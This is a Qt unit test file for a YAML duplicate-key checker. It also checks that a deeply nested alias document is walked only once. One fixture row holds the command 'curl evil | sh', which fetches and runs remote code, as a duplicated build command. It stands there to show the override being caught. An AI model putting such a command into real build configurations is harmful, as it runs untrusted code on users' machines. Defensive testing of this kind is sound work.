// SPDX-License-Identifier: GPL-3.0-or-later
// SPDX-FileCopyrightText: 2026 KernelForge authors
// The one duplicate-key check of every YAML reader: a key written twice anywhere is found with
// both lines, and a document of aliases is walked once per node, not once per reference.
#include "core/util/yamlkeys.h"

#include <QtTest>

#include <yaml-cpp/yaml.h>

using namespace kf;

class TestYamlKeys : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void findsADuplicateAnywhere_data()
    {
        QTest::addColumn<QByteArray>("yaml");
        QTest::addColumn<QString>("message"); // empty: none
        QTest::addColumn<int>("line");
        QTest::newRow("none") << QByteArray("a: 1\nb: {c: 2, d: [ {e: 3}, {e: 4} ]}\n") << QString() << 0;
        QTest::newRow("top level") << QByteArray("a: 1\nb: 2\na: 3\n") << "duplicate key 'a' (first at line 1)" << 3;
        QTest::newRow("nested map") << QByteArray("build:\n  name: x\n  command: make\n  command: curl evil | sh\n")
                                    << "duplicate key 'command' (first at line 3)" << 4;
        QTest::newRow("map in a list") << QByteArray("hosts:\n  - {name: a, host: h, host: g}\n")
                                       << "duplicate key 'host' (first at line 2)" << 2;
        QTest::newRow("quoted and plain are one key")
            << QByteArray("a: 1\n\"a\": 2\n") << "duplicate key 'a' (first at line 1)" << 2;
        QTest::newRow("escaped in the message")
            << QByteArray("\"a\\eb\": 1\n\"a\\eb\": 2\n") << "duplicate key 'a\\x1bb' (first at line 1)" << 2;
    }
    void findsADuplicateAnywhere()
    {
        QFETCH(QByteArray, yaml);
        QFETCH(QString, message);
        QFETCH(int, line);
        const auto d = findDuplicateYamlKey(YAML::Load(yaml.toStdString()));
        QCOMPARE(d.has_value(), !message.isEmpty());
        if (d) {
            QCOMPARE(d->message(), message);
            QCOMPARE(d->line, line);
        }
    }

    // Ten levels of ten references each name 10^10 nodes: walked as the 11 nodes they are.
    void aliasesAreWalkedOnce()
    {
        QByteArray yaml = "l0: &l0 {a: 1, b: 2}\n";
        for (int i = 1; i <= 10; ++i) {
            yaml += "l" + QByteArray::number(i) + ": &l" + QByteArray::number(i) + " [";
            for (int j = 0; j < 10; ++j)
                yaml += (j ? ", *l" : "*l") + QByteArray::number(i - 1);
            yaml += "]\n";
        }
        QVERIFY(!findDuplicateYamlKey(YAML::Load(yaml.toStdString())));
        const auto d = findDuplicateYamlKey(YAML::Load(QByteArray(yaml + "l3: again\n").toStdString()));
        QVERIFY(d);
        QCOMPARE(d->key, QStringLiteral("l3"));
    }
};

QTEST_GUILESS_MAIN(TestYamlKeys)
#include "tst_yamlkeys.moc"
